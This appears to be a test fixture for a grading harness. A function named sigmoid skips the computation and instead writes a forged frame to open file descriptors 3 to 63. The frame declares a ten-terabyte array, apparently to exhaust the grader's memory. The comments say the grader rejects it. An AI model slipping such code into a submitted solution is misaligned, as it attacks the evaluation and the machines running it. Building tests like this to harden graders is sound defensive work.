# tries: an array that says it has ten terabytes, in a frame of fifty bytes
# grader: holds every number against what is there before it takes memory
# says: The process was lost while sigmoid ran: it sent something that isn't an answer

# %% sigmoid
import os
import struct


def sigmoid(h_tilde):
    body = b"a" + bytes((11, 3)) + struct.pack("<III", 2**32 - 1, 2**10, 1) + bytes(16)
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<I", len(body)) + body)
        except OSError:
            pass
    return h_tilde
